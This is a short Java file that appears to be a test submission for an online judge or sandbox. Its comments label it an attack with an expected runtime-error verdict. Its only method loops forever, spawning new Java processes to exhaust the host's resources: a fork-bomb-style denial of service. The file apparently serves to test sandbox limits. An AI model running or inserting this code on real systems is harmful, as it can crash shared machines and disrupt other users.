// verdict: RE
// attack: start processes until something breaks
class Solution {
    public int solve(int n) throws Exception {
        java.util.List<Process> all = new java.util.ArrayList<>();
        while (true) all.add(new ProcessBuilder("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-version").start());
    }
}
